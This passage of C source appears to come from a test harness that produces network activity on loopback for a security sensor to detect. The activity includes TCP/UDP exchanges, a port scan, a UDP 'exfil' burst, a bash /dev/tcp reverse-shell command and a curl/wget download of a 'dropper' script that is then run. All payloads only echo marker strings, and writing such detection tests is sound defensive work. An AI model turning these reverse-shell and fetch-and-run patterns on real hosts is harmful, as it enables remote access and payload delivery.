/*
 * net_actions.c - the net family's actions for nj-actions: TCP (IPv4,
 * IPv6, v4-mapped, refused, non-blocking), UDP (sendto, connected,
 * sendmsg/sendmmsg, a flow with a gap, a burst), a bash reverse shell, a
 * port scan and an HTTP download that is then run.  The DNS actions are in
 * net_dns_actions.c; the helpers both files use are declared in
 * net_actions.h.
 *
 * Everything happens on loopback (or in network namespaces the action
 * makes), on ephemeral ports.  Each action prints the pid that made the
 * socket calls ("pid", or "<role>_pid" when a child made them) and the
 * ports it used, so a test can find the sensor's events.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include "actions.h"
#include "net_actions.h"

/* ------------------------------------------------------------------------ */
/* Addresses and sockets.                                                    */

void addr_set(struct net_addr *a, const char *ip, int port)
{
	memset(a, 0, sizeof *a);
	if (strchr(ip, ':')) {
		struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)&a->ss;
		s6->sin6_family = AF_INET6;
		s6->sin6_port = htons((uint16_t)port);
		if (inet_pton(AF_INET6, ip, &s6->sin6_addr) != 1)
			die(1, "bad IPv6 address %s", ip);
		a->len = sizeof *s6;
	} else {
		struct sockaddr_in *s4 = (struct sockaddr_in *)&a->ss;
		s4->sin_family = AF_INET;
		s4->sin_port = htons((uint16_t)port);
		if (inet_pton(AF_INET, ip, &s4->sin_addr) != 1)
			die(1, "bad IPv4 address %s", ip);
		a->len = sizeof *s4;
	}
}

int addr_port(const struct net_addr *a)
{
	if (a->ss.ss_family == AF_INET6)
		return ntohs(((const struct sockaddr_in6 *)&a->ss)->sin6_port);
	return ntohs(((const struct sockaddr_in *)&a->ss)->sin_port);
}

int local_port(int fd)
{
	struct net_addr a;

	a.len = sizeof a.ss;
	if (getsockname(fd, (struct sockaddr *)&a.ss, &a.len) != 0)
		die_errno("getsockname");
	return addr_port(&a);
}

int net_socket(int family, int type)
{
	int fd = socket(family, type | SOCK_CLOEXEC, 0);

	if (fd < 0 && (errno == EAFNOSUPPORT || errno == EPROTONOSUPPORT))
		die(77, "socket(%s): %s", family == AF_INET6 ? "AF_INET6" : "AF_INET",
		    strerror(errno));
	if (fd < 0)
		die_errno("socket");
	return fd;
}

void net_bind(int fd, const char *ip, int port, struct net_addr *out)
{
	struct net_addr a;

	addr_set(&a, ip, port);
	if (bind(fd, (struct sockaddr *)&a.ss, a.len) != 0)
		die(1, "bind %s:%d: %s", ip, port, strerror(errno));
	if (out) {
		out->len = sizeof out->ss;
		if (getsockname(fd, (struct sockaddr *)&out->ss, &out->len) != 0)
			die_errno("getsockname");
	}
}

static void set_int_opt(int fd, int level, int opt, int value, const char *what)
{
	if (setsockopt(fd, level, opt, &value, sizeof value) != 0)
		die_errno(what);
}

int tcp_listener(const char *ip, struct net_addr *out)
{
	int fd = net_socket(strchr(ip, ':') ? AF_INET6 : AF_INET, SOCK_STREAM);

	if (strchr(ip, ':'))
		set_int_opt(fd, IPPROTO_IPV6, IPV6_V6ONLY, 1, "setsockopt IPV6_V6ONLY");
	net_bind(fd, ip, 0, out);
	if (listen(fd, NET_BACKLOG) != 0)
		die_errno("listen");
	return fd;
}

int tcp_connect(int fd, const struct net_addr *to)
{
	struct timeval tv = {NET_WAIT_MS / 1000, 0};

	/* A blocking connect waits for the handshake: at most this long. */
	if (setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv) != 0)
		die_errno("setsockopt SO_SNDTIMEO");
	if (connect(fd, (const struct sockaddr *)&to->ss, to->len) == 0)
		return 0;
	if (errno == EINPROGRESS)
		die(1, "connect to port %d: no answer in %d ms", addr_port(to), NET_WAIT_MS);
	return errno;
}

int tcp_accept(int lfd)
{
	int fd;

	wait_fd(lfd, POLLIN, "accept");
	fd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
	if (fd < 0)
		die_errno("accept4");
	return fd;
}

short wait_fd(int fd, short events, const char *what)
{
	struct pollfd p = {fd, events, 0};
	int r;

	do
		r = poll(&p, 1, NET_WAIT_MS);
	while (r < 0 && errno == EINTR);
	if (r < 0)
		die_errno("poll");
	if (r == 0)
		die(1, "%s: nothing after %d ms", what, NET_WAIT_MS);
	return p.revents;
}

void send_exact(int fd, const void *buf, size_t n, const char *what)
{
	size_t off = 0;

	while (off < n) {
		ssize_t w;

		wait_fd(fd, POLLOUT, what);
		w = send(fd, (const char *)buf + off, n - off, MSG_NOSIGNAL);
		if (w < 0 && errno != EINTR && errno != EAGAIN)
			die(1, "%s: send: %s", what, strerror(errno));
		if (w > 0)
			off += (size_t)w;
	}
}

void recv_exact(int fd, void *buf, size_t n, const char *what)
{
	size_t off = 0;

	while (off < n) {
		ssize_t r;

		wait_fd(fd, POLLIN, what);
		r = recv(fd, (char *)buf + off, n - off, 0);
		if (r == 0)
			die(1, "%s: the peer closed after %zu of %zu bytes", what, off, n);
		if (r < 0 && errno != EINTR && errno != EAGAIN)
			die(1, "%s: recv: %s", what, strerror(errno));
		if (r > 0)
			off += (size_t)r;
	}
}

void close_settle(int fd)
{
	if (close(fd) != 0)
		die_errno("close");
	sleep_ms(50);
}

/* ------------------------------------------------------------------------ */
/* Children, shared memory, ready pipes.                                     */

pid_t net_fork(void)
{
	pid_t parent = getpid(), pid;

	fflush(stdout);
	fflush(stderr);
	pid = fork();
	if (pid < 0)
		die_errno("fork");
	/* The child of an action that died is killed, not left to time out. */
	if (pid == 0 && (prctl(PR_SET_PDEATHSIG, SIGKILL) != 0 || getppid() != parent))
		_exit(1);
	return pid;
}

void reap(pid_t pid, const char *who)
{
	char d[64];
	int status, waited;

	for (waited = 0; waited < NET_REAP_MS; waited += 5) {
		pid_t r = waitpid(pid, &status, WNOHANG);

		if (r < 0 && errno != EINTR)
			die_errno("waitpid");
		if (r != pid) {
			sleep_ms(5);
			continue;
		}
		if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
			return;
		if (WIFEXITED(status) && WEXITSTATUS(status) == 77)
			die(77, "%s (pid %d) skipped (exit status 77)", who, (int)pid);
		describe_status(d, sizeof d, status);
		die(1, "%s (pid %d) %s", who, (int)pid, d);
	}
	kill(pid, SIGKILL);
	wait_pid(pid, &status);
	die(1, "%s (pid %d) still running after %d ms: killed", who, (int)pid, NET_REAP_MS);
}

void *shared_mem(size_t n)
{
	void *p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		die_errno("mmap MAP_SHARED");
	return p;
}

void ready_pipe(int p[2])
{
	if (pipe2(p, O_CLOEXEC) != 0)
		die_errno("pipe2");
}

void ready_send(int wfd, int value)
{
	if (write(wfd, &value, sizeof value) != (ssize_t)sizeof value)
		die_errno("write to the ready pipe");
}

int ready_wait(int rfd, int *value, const char *what)
{
	int v = 0;
	ssize_t r;

	wait_fd(rfd, POLLIN, what);
	do
		r = read(rfd, &v, sizeof v);
	while (r < 0 && errno == EINTR);
	if (r == 0)
		return -1;
	if (r != (ssize_t)sizeof v)
		die(1, "%s: short read on the ready pipe", what);
	if (value)
		*value = v;
	return 0;
}

/* ------------------------------------------------------------------------ */
/* Local helpers.                                                            */

/* A port nothing listens on: the kernel's pick for a bind, then closed. */
static int closed_port(const char *ip)
{
	int fd = net_socket(AF_INET, SOCK_STREAM), port;

	net_bind(fd, ip, 0, NULL);
	port = local_port(fd);
	close(fd);
	return port;
}

/* Bytes that differ from position to position, to catch a misordered read. */
static void pattern(unsigned char *buf, size_t n, unsigned seed)
{
	size_t i;

	for (i = 0; i < n; i++)
		buf[i] = (unsigned char)(seed + i * 31);
}

static void expect_pattern(const unsigned char *buf, size_t n, unsigned seed, const char *what)
{
	unsigned char want[2048];

	if (n > sizeof want)
		die(1, "%s: %zu bytes is more than the check holds", what, n);
	pattern(want, n, seed);
	if (memcmp(buf, want, n) != 0)
		die(1, "%s: the bytes received are not the bytes sent", what);
}

static int so_error(int fd)
{
	int e = 0;
	socklen_t len = sizeof e;

	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &e, &len) != 0)
		die_errno("getsockopt SO_ERROR");
	return e;
}

/* The peer's address is the one expected (family, port, address). */
static void expect_peer(const struct net_addr *got, const struct net_addr *want, const char *what)
{
	if (got->len != want->len || memcmp(&got->ss, &want->ss, want->len) != 0)
		die(1, "%s: the datagram came from another address than the sender's", what);
}

/* name searched for in $PATH (default /usr/bin:/bin); 0 when found. */
static int find_in_path(const char *name, char *out, size_t n)
{
	const char *path = getenv("PATH"), *p, *end;
	struct stat st;

	if (!path || !*path)
		path = "/usr/bin:/bin";
	for (p = path; *p; p = *end ? end + 1 : end) {
		int len;

		end = strchrnul(p, ':');
		len = snprintf(out, n, "%.*s/%s", (int)(end - p), p, name);
		if (end == p || len < 0 || (size_t)len >= n)
			continue;
		if (stat(out, &st) == 0 && S_ISREG(st.st_mode) && access(out, X_OK) == 0)
			return 0;
	}
	return -1;
}

/* Like spawn(), but returns once the child has exec'd (its report pipe
 * closed), dying with the child's own message when the exec failed. */
static pid_t spawn_exec(child_fn fn, void *arg, const char *who)
{
	struct report rep;
	int rfd, rerr, status;
	pid_t pid = spawn(fn, arg, &rfd);

	wait_fd(rfd, POLLIN, who); /* a message, or EOF at the exec */
	rerr = read_reports(rfd, &rep);
	close(rfd);
	if (rerr || rep.have_err) {
		wait_pid(pid, &status); /* it exits right after its report */
		die(1, "%s: %s: %s", who, rerr ? "report pipe" : rep.what,
		    strerror(rerr ? rerr : rep.err));
	}
	return pid;
}

/* ------------------------------------------------------------------------ */
/* TCP.                                                                      */

/* Client, then the accepted socket, then the listener: the end of a
 * connection each side sees in turn. */
static void close_trio(int cfd, int afd, int lfd)
{
	close_settle(cfd);
	close_settle(afd);
	close_settle(lfd);
}

static void tcp_exchange(const char *action, const char *ip)
{
	unsigned char req[1000], resp[300], got_req[sizeof req], got_resp[sizeof resp];
	struct net_addr srv;
	int lfd = tcp_listener(ip, &srv), cfd, afd, err, cport;

	cfd = net_socket(srv.ss.ss_family, SOCK_STREAM);
	err = tcp_connect(cfd, &srv);
	if (err)
		die(1, "connect to %s:%d: %s", ip, addr_port(&srv), strerror(err));
	afd = tcp_accept(lfd);
	cport = local_port(cfd);
	pattern(req, sizeof req, 1);
	send_exact(cfd, req, sizeof req, "client send");
	recv_exact(afd, got_req, sizeof got_req, "server recv");
	expect_pattern(got_req, sizeof got_req, 1, "server recv");
	pattern(resp, sizeof resp, 2);
	send_exact(afd, resp, sizeof resp, "server send");
	recv_exact(cfd, got_resp, sizeof got_resp, "client recv");
	expect_pattern(got_resp, sizeof got_resp, 2, "client recv");
	close_trio(cfd, afd, lfd);
	j_begin(action);
	j_num("pid", getpid());
	j_num("server_port", addr_port(&srv));
	j_num("client_port", cport);
	j_num("backlog", NET_BACKLOG);
	j_num("sent", sizeof req);
	j_num("received", sizeof resp);
}

static void act_tcp4(void)
{
	tcp_exchange("net-tcp4", "127.0.0.1");
}

static void act_tcp6(void)
{
	tcp_exchange("net-tcp6", "::1");
}

/* An IPv6 socket reaching an IPv4 listener through ::ffff:127.0.0.1. */
static void act_tcp_mapped(void)
{
	struct net_addr srv, mapped;
	int lfd = tcp_listener("127.0.0.1", &srv), cfd, afd, err, cport;

	addr_set(&mapped, "::ffff:127.0.0.1", addr_port(&srv));
	cfd = net_socket(AF_INET6, SOCK_STREAM);
	set_int_opt(cfd, IPPROTO_IPV6, IPV6_V6ONLY, 0, "setsockopt IPV6_V6ONLY 0");
	err = tcp_connect(cfd, &mapped);
	if (err)
		die(1, "connect to [::ffff:127.0.0.1]:%d: %s", addr_port(&srv), strerror(err));
	afd = tcp_accept(lfd);
	cport = local_port(cfd);
	close_trio(cfd, afd, lfd);
	j_begin("net-tcp-mapped");
	j_num("pid", getpid());
	j_num("server_port", addr_port(&srv));
	j_num("client_port", cport);
}

/* A blocking connect to port, which must be refused. */
static void connect_refused(int port)
{
	struct net_addr to;
	int fd = net_socket(AF_INET, SOCK_STREAM), err;

	addr_set(&to, "127.0.0.1", port);
	err = tcp_connect(fd, &to);
	if (err != ECONNREFUSED)
		die(1, "connect to closed port %d: %s (expected ECONNREFUSED)", port,
		    err ? strerror(err) : "succeeded");
	close(fd);
}

static void act_refused(void)
{
	int port = closed_port("127.0.0.1");

	connect_refused(port);
	j_begin("net-refused");
	j_num("pid", getpid());
	j_num("port", port);
	j_num("errno", ECONNREFUSED);
}

/* A non-blocking connect; returns the errno of connect() (0 if it
 * completed at once). */
static int connect_nonblock(int fd, const struct net_addr *to)
{
	if (connect(fd, (const struct sockaddr *)&to->ss, to->len) == 0)
		return 0;
	return errno;
}

static void act_nonblock(void)
{
	struct net_addr srv;
	int lfd = tcp_listener("127.0.0.1", &srv), cfd, afd, err, cport;

	cfd = net_socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK);
	err = connect_nonblock(cfd, &srv);
	if (err == 0)
		die(1,
		    "non-blocking connect to port %d: 0, not EINPROGRESS (the test relies on it)",
		    addr_port(&srv));
	if (err != EINPROGRESS)
		die(1, "non-blocking connect: %s (expected EINPROGRESS)", strerror(err));
	wait_fd(cfd, POLLOUT, "non-blocking connect");
	err = so_error(cfd);
	if (err)
		die(1, "non-blocking connect: SO_ERROR %s", strerror(err));
	afd = tcp_accept(lfd);
	cport = local_port(cfd);
	close_trio(cfd, afd, lfd);
	j_begin("net-nonblock");
	j_num("pid", getpid());
	j_num("server_port", addr_port(&srv));
	j_num("client_port", cport);
	j_num("connect_errno", EINPROGRESS);
}

/* connect_errno: EINPROGRESS, then so_error ECONNREFUSED; or (never seen
 * on loopback, allowed) ECONNREFUSED at once, then so_error 0. */
static void act_nonblock_refused(void)
{
	struct net_addr to;
	int port = closed_port("127.0.0.1"), fd, err, soe;

	addr_set(&to, "127.0.0.1", port);
	fd = net_socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK);
	err = connect_nonblock(fd, &to);
	if (err != EINPROGRESS && err != ECONNREFUSED)
		die(1, "non-blocking connect to closed port %d: %s", port,
		    err ? strerror(err) : "succeeded");
	if (err == EINPROGRESS)
		wait_fd(fd, POLLOUT, "non-blocking connect");
	soe = so_error(fd);
	if (err == EINPROGRESS && soe != ECONNREFUSED)
		die(1, "non-blocking connect to closed port %d: SO_ERROR %d (expected %d)", port,
		    soe, ECONNREFUSED);
	close(fd);
	j_begin("net-nonblock-refused");
	j_num("pid", getpid());
	j_num("port", port);
	j_num("connect_errno", err);
	j_num("so_error", soe);
}

/* 20 closed ports, then one open: all bound at once, so all distinct. */
static void act_portscan(void)
{
	enum { CLOSED = 20 };
	int fds[CLOSED], ports[CLOSED], i, lfd, cfd, afd, err;
	struct net_addr srv;

	lfd = tcp_listener("127.0.0.1", &srv);
	for (i = 0; i < CLOSED; i++) {
		fds[i] = net_socket(AF_INET, SOCK_STREAM);
		net_bind(fds[i], "127.0.0.1", 0, NULL);
		ports[i] = local_port(fds[i]);
	}
	for (i = 0; i < CLOSED; i++)
		close(fds[i]);
	for (i = 0; i < CLOSED; i++)
		connect_refused(ports[i]);
	cfd = net_socket(AF_INET, SOCK_STREAM);
	err = tcp_connect(cfd, &srv);
	if (err)
		die(1, "connect to the open port %d: %s", addr_port(&srv), strerror(err));
	afd = tcp_accept(lfd);
	close_trio(cfd, afd, lfd);
	j_begin("net-portscan");
	j_num("pid", getpid());
	j_num("open_port", addr_port(&srv));
	j_num("closed_first", ports[0]);
	j_num("closed_count", CLOSED);
}

/* ------------------------------------------------------------------------ */
/* UDP.                                                                      */

struct udp_pair {
	int rx, tx;
	struct net_addr rxa, txa;
};

/* A receiver and a sender, both bound to ip:0 so both ports are known. */
static void udp_pair_open(struct udp_pair *u, const char *ip)
{
	int family = strchr(ip, ':') ? AF_INET6 : AF_INET;

	u->rx = net_socket(family, SOCK_DGRAM);
	net_bind(u->rx, ip, 0, &u->rxa);
	u->tx = net_socket(family, SOCK_DGRAM);
	net_bind(u->tx, ip, 0, &u->txa);
}

static void udp_pair_close(struct udp_pair *u)
{
	close(u->tx);
	close(u->rx);
}

static void udp_sendto(const struct udp_pair *u, const void *buf, size_t n)
{
	ssize_t w = sendto(u->tx, buf, n, 0, (const struct sockaddr *)&u->rxa.ss, u->rxa.len);

	if (w != (ssize_t)n)
		die(1, "sendto: %s", w < 0 ? strerror(errno) : "short datagram");
}

/* One datagram of exactly n bytes from the pair's sender (buf holds n + 1,
 * so that a longer datagram shows). */
static void udp_recvfrom(const struct udp_pair *u, void *buf, size_t n)
{
	struct net_addr peer;
	ssize_t r;

	wait_fd(u->rx, POLLIN, "recvfrom");
	peer.len = sizeof peer.ss;
	r = recvfrom(u->rx, buf, n + 1, 0, (struct sockaddr *)&peer.ss, &peer.len);
	if (r != (ssize_t)n)
		die(1, "recvfrom: %s", r < 0 ? strerror(errno) : "unexpected datagram size");
	expect_peer(&peer, &u->txa, "recvfrom");
}

static void j_udp(const char *action, const struct udp_pair *u)
{
	j_begin(action);
	j_num("pid", getpid());
	j_num("sender_port", addr_port(&u->txa));
	j_num("receiver_port", addr_port(&u->rxa));
}

enum { UDP_COUNT = 3, UDP_SIZE = 100 };

static void udp_plain(const char *action, const char *ip)
{
	unsigned char buf[UDP_SIZE + 1];
	struct udp_pair u;
	int i;

	udp_pair_open(&u, ip);
	pattern(buf, UDP_SIZE, 3);
	for (i = 0; i < UDP_COUNT; i++)
		udp_sendto(&u, buf, UDP_SIZE);
	for (i = 0; i < UDP_COUNT; i++) {
		udp_recvfrom(&u, buf, UDP_SIZE);
		expect_pattern(buf, UDP_SIZE, 3, "recvfrom");
	}
	udp_pair_close(&u);
	j_udp(action, &u);
	j_num("datagrams", UDP_COUNT);
	j_num("bytes", UDP_SIZE);
}

static void act_udp4(void)
{
	udp_plain("net-udp4", "127.0.0.1");
}

static void act_udp6(void)
{
	udp_plain("net-udp6", "::1");
}

/* Both sockets connected to each other before the first datagram; the
 * datagrams go through send/recv, or with `rw` through write/read (as Go's
 * resolver does), which no socket syscall pair sees. */
static void udp_connected(const char *action, int rw)
{
	unsigned char buf[UDP_SIZE + 1];
	struct udp_pair u;
	ssize_t n;
	int i;

	udp_pair_open(&u, "127.0.0.1");
	if (connect(u.tx, (struct sockaddr *)&u.rxa.ss, u.rxa.len) != 0)
		die_errno("connect sender");
	if (connect(u.rx, (struct sockaddr *)&u.txa.ss, u.txa.len) != 0)
		die_errno("connect receiver");
	pattern(buf, UDP_SIZE, 4);
	for (i = 0; i < UDP_COUNT; i++) {
		n = rw ? write(u.tx, buf, UDP_SIZE) : send(u.tx, buf, UDP_SIZE, 0);
		if (n != UDP_SIZE)
			die_errno(rw ? "write" : "send");
	}
	for (i = 0; i < UDP_COUNT; i++) {
		wait_fd(u.rx, POLLIN, "recv");
		n = rw ? read(u.rx, buf, sizeof buf) : recv(u.rx, buf, sizeof buf, 0);
		if (n != UDP_SIZE)
			die(1, "%s: %s", rw ? "read" : "recv", strerror(errno));
		expect_pattern(buf, UDP_SIZE, 4, "recv");
	}
	udp_pair_close(&u);
	j_udp(action, &u);
	j_num("datagrams", UDP_COUNT);
	j_num("bytes", UDP_SIZE);
}

static void act_udp4_connected(void)
{
	udp_connected("net-udp4-connected", 0);
}

static void act_udp_write(void)
{
	udp_connected("net-udp-write", 1);
}

/* One msghdr for a datagram of UDP_SIZE bytes to or from *name. */
static void msg_init(struct msghdr *m, struct iovec *iov, void *buf, struct net_addr *name)
{
	memset(m, 0, sizeof *m);
	iov->iov_base = buf;
	iov->iov_len = UDP_SIZE;
	m->msg_iov = iov;
	m->msg_iovlen = 1;
	m->msg_name = &name->ss;
	m->msg_namelen = name->len;
}

/* Receives `want` datagrams with recvmmsg: one call when both are queued
 * already, more (bounded) when loopback delivered the second one late. */
static void recvmmsg_all(const struct udp_pair *u, unsigned char (*bufs)[UDP_SIZE], int want)
{
	struct net_addr peers[2];
	struct mmsghdr mm[2];
	struct iovec iov[2];
	int got = 0, i;

	while (got < want) {
		int r;

		for (i = got; i < want; i++) {
			peers[i].len = sizeof peers[i].ss;
			msg_init(&mm[i].msg_hdr, &iov[i], bufs[i], &peers[i]);
		}
		wait_fd(u->rx, POLLIN, "recvmmsg");
		r = recvmmsg(u->rx, mm + got, (unsigned)(want - got), MSG_DONTWAIT, NULL);
		if (r < 0 && errno != EAGAIN && errno != EINTR)
			die_errno("recvmmsg");
		for (i = got; r > 0 && i < got + r; i++) {
			peers[i].len = mm[i].msg_hdr.msg_namelen;
			if (mm[i].msg_len != UDP_SIZE)
				die(1, "recvmmsg: unexpected datagram size %u", mm[i].msg_len);
			expect_peer(&peers[i], &u->txa, "recvmmsg");
		}
		got += r > 0 ? r : 0;
	}
}

static void act_udp_msg(void)
{
	unsigned char bufs[2][UDP_SIZE];
	struct mmsghdr mm[2];
	struct iovec iov[2];
	struct udp_pair u;
	struct msghdr m;
	struct net_addr peer;
	int i;

	udp_pair_open(&u, "127.0.0.1");
	pattern(bufs[0], UDP_SIZE, 7);
	pattern(bufs[1], UDP_SIZE, 8);
	for (i = 0; i < 2; i++) {
		msg_init(&m, &iov[0], bufs[0], &u.rxa);
		if (sendmsg(u.tx, &m, 0) != UDP_SIZE)
			die_errno("sendmsg");
	}
	for (i = 0; i < 2; i++) {
		peer.len = sizeof peer.ss;
		msg_init(&m, &iov[0], bufs[0], &peer);
		wait_fd(u.rx, POLLIN, "recvmsg");
		if (recvmsg(u.rx, &m, 0) != UDP_SIZE)
			die(1, "recvmsg: %s", strerror(errno));
		peer.len = m.msg_namelen;
		expect_peer(&peer, &u.txa, "recvmsg");
	}
	for (i = 0; i < 2; i++)
		msg_init(&mm[i].msg_hdr, &iov[i], bufs[i], &u.rxa);
	if (sendmmsg(u.tx, mm, 2, 0) != 2)
		die(1, "sendmmsg: %s", strerror(errno));
	recvmmsg_all(&u, bufs, 2);
	udp_pair_close(&u);
	j_udp("net-udp-msg", &u);
}

/* NJ_UDP_GAP_MS (default 1500, at most 10000). */
static long gap_ms(void)
{
	const char *s = getenv("NJ_UDP_GAP_MS");
	char *end;
	long v;

	if (!s || !*s)
		return 1500;
	errno = 0;
	v = strtol(s, &end, 10);
	if (errno || *end || v < 0)
		die(1, "NJ_UDP_GAP_MS=%s: not a number of milliseconds", s);
	return v > 10000 ? 10000 : v;
}

/* Two datagrams of one flow, a pause between them (a flow's idle time). */
static void act_udp_again(void)
{
	unsigned char buf[UDP_SIZE + 1];
	long gap = gap_ms();
	struct udp_pair u;

	udp_pair_open(&u, "127.0.0.1");
	pattern(buf, UDP_SIZE, 5);
	udp_sendto(&u, buf, UDP_SIZE);
	sleep_ms(gap);
	udp_sendto(&u, buf, UDP_SIZE);
	udp_recvfrom(&u, buf, UDP_SIZE);
	udp_recvfrom(&u, buf, UDP_SIZE);
	udp_pair_close(&u);
	j_udp("net-udp-again", &u);
	j_num("gap_ms", gap);
}

/* Drains what has arrived, without waiting; returns the count. */
static int udp_drain(int fd)
{
	unsigned char buf[2048];
	int n = 0;

	while (recv(fd, buf, sizeof buf, MSG_DONTWAIT) >= 0)
		n++;
	if (errno != EAGAIN)
		die_errno("recv");
	return n;
}

/* A burst of 200 x 512 bytes.  The receiver is drained every 16
 * datagrams (its buffer holds fewer than 200); loopback may still drop
 * some under load, which is reported, not a failure. */
static void act_udp_exfil(void)
{
	enum { COUNT = 200, SIZE = 512 };
	unsigned char buf[SIZE];
	struct udp_pair u;
	int i, got = 0;

	udp_pair_open(&u, "127.0.0.1");
	pattern(buf, SIZE, 6);
	for (i = 0; i < COUNT; i++) {
		udp_sendto(&u, buf, SIZE);
		if (i % 16 == 15)
			got += udp_drain(u.rx);
	}
	while (got < COUNT) {
		struct pollfd p = {u.rx, POLLIN, 0};

		if (poll(&p, 1, 500) <= 0)
			break; /* nothing more in 500 ms: the rest was dropped */
		got += udp_drain(u.rx);
	}
	if (got == 0)
		die(1, "none of the %d datagrams arrived", COUNT);
	udp_pair_close(&u);
	j_udp("net-udp-exfil", &u);
	j_num("datagrams", COUNT);
	j_num("received", got);
}

/* ------------------------------------------------------------------------ */
/* Processes on the network: a reverse shell, a download that is run.      */

struct exec_args {
	const char *path;
	char **argv;
	int stdout_fd; /* -1: inherited */
};

/* child_fn: exec args->path with args->argv, dying with the action. */
static void child_exec(int wfd, void *arg)
{
	struct exec_args *x = arg;

	if (prctl(PR_SET_PDEATHSIG, SIGKILL) != 0)
		child_fail(wfd, "prctl PR_SET_PDEATHSIG", errno);
	/* A proxy from the environment would send curl/wget elsewhere. */
	unsetenv("http_proxy");
	unsetenv("HTTP_PROXY");
	unsetenv("all_proxy");
	unsetenv("ALL_PROXY");
	if (x->stdout_fd >= 0 && dup2(x->stdout_fd, STDOUT_FILENO) < 0)
		child_fail(wfd, "dup2", errno);
	execve(x->path, x->argv, environ);
	child_fail(wfd, x->path, errno);
}

/* Reads from fd until EOF (at most n - 1 bytes, NUL-terminated). */
static void read_to_eof(int fd, char *buf, size_t n, const char *what)
{
	size_t off = 0;

	for (;;) {
		ssize_t r;

		wait_fd(fd, POLLIN, what);
		r = read(fd, buf + off, n - 1 - off);
		if (r < 0 && errno == EINTR)
			continue;
		if (r < 0)
			die(1, "%s: read: %s", what, strerror(errno));
		if (r == 0 || (off += (size_t)r) == n - 1)
			break;
	}
	buf[off] = '\0';
}

/* bash's /dev/tcp: a shell that connects out and writes to the socket. */
static void act_revshell(void)
{
	char bash[PATH_MAX], script[128], line[64];
	char *argv[] = {"bash", "-c", script, NULL};
	struct exec_args x = {bash, argv, -1};
	struct net_addr srv;
	int lfd, afd;
	pid_t shell;

	if (find_in_path("bash", bash, sizeof bash) != 0)
		die(77, "no bash in PATH");
	lfd = tcp_listener("127.0.0.1", &srv);
	snprintf(script, sizeof script,
		 "exec 3<>/dev/tcp/127.0.0.1/%d; echo nightjar-revshell >&3; exec 3>&-",
		 addr_port(&srv));
	shell = spawn_exec(child_exec, &x, "bash");
	afd = tcp_accept(lfd);
	read_to_eof(afd, line, sizeof line, "the shell's line");
	if (strcmp(line, "nightjar-revshell\n") != 0)
		die(1, "the shell wrote \"%s\", not nightjar-revshell", line);
	reap(shell, "bash");
	close_settle(afd);
	close_settle(lfd);
	j_begin("net-revshell");
	j_num("pid", getpid());
	j_num("shell_pid", shell);
	j_num("server_port", addr_port(&srv));
}

static const char dropper_body[] = "#!/bin/sh\necho nightjar-downloaded\n";

/* Reads a request up to its blank line (bounded by the buffer). */
static void http_read_request(int fd, char *req, size_t n)
{
	size_t got = 0;

	while (!memmem(req, got, "\r\n\r\n", 4)) {
		ssize_t r;

		if (got == n)
			die(1, "HTTP request longer than %zu bytes", n);
		wait_fd(fd, POLLIN, "HTTP request");
		r = recv(fd, req + got, n - got, 0);
		if (r <= 0)
			die(1, "HTTP request: %s", r < 0 ? strerror(errno) : "closed early");
		got += (size_t)r;
	}
	if (got < 13 || memcmp(req, "GET /dropper ", 13) != 0)
		die(1, "unexpected HTTP request: %.30s", req);
}

/* The HTTP server child: one request, one response, exit. */
static void http_serve_one(int ready_fd)
{
	char req[2048], head[128];
	struct net_addr srv;
	int lfd = tcp_listener("127.0.0.1", &srv), afd;

	ready_send(ready_fd, addr_port(&srv));
	afd = tcp_accept(lfd);
	http_read_request(afd, req, sizeof req);
	snprintf(head, sizeof head,
		 "HTTP/1.0 200 OK\r\nContent-Type: text/x-shellscript\r\n"
		 "Content-Length: %zu\r\n\r\n",
		 strlen(dropper_body));
	send_exact(afd, head, strlen(head), "HTTP response");
	send_exact(afd, dropper_body, strlen(dropper_body), "HTTP response");
	close(afd);
	close(lfd);
	_exit(0);
}

/* curl, else wget (busybox's in the matrix VMs), else exit 77. */
static const char *pick_fetcher(char *path, size_t n)
{
	if (find_in_path("curl", path, n) == 0)
		return "curl";
	if (find_in_path("wget", path, n) == 0)
		return "wget";
	die(77, "neither curl nor wget in PATH");
}

/* Runs the downloaded script; it must print its line. */
static pid_t run_dropper(const char *path)
{
	char *argv[] = {"dropper", NULL}, out[64];
	struct exec_args x = {path, argv, -1};
	int p[2];
	pid_t pid;

	if (pipe2(p, O_CLOEXEC) != 0)
		die_errno("pipe2");
	x.stdout_fd = p[1];
	pid = spawn_exec(child_exec, &x, "dropper");
	close(p[1]);
	read_to_eof(p[0], out, sizeof out, "the dropper's output");
	close(p[0]);
	reap(pid, "dropper");
	if (strcmp(out, "nightjar-downloaded\n") != 0)
		die(1, "the dropper printed \"%s\"", out);
	return pid;
}

static void act_http_download(void)
{
	char tool_path[PATH_MAX], path[PATH_MAX], url[64];
	const char *tool = pick_fetcher(tool_path, sizeof tool_path);
	/* No timeout options: Debian 12's busybox wget crashes on -T (built
	 * without it); reap() bounds the wait instead. */
	char *curl_argv[] = {"curl", "-s", "-o", path, url, NULL};
	char *wget_argv[] = {"wget", "-q", "-O", path, url, NULL};
	struct exec_args x = {tool_path, curl_argv, -1};
	int ready[2], port;
	pid_t server, client, run;

	join_path(path, sizeof path, workdir(), "dropper");
	if (strcmp(tool, "wget") == 0)
		x.argv = wget_argv;
	ready_pipe(ready);
	server = net_fork();
	if (server == 0) {
		close(ready[0]);
		http_serve_one(ready[1]);
	}
	close(ready[1]);
	if (ready_wait(ready[0], &port, "the HTTP server") != 0) {
		reap(server, "HTTP server"); /* dies with the server's reason */
		die(1, "the HTTP server exited without listening");
	}
	close(ready[0]);
	snprintf(url, sizeof url, "http://127.0.0.1:%d/dropper", port);
	client = spawn_exec(child_exec, &x, tool);
	reap(client, tool);
	reap(server, "HTTP server");
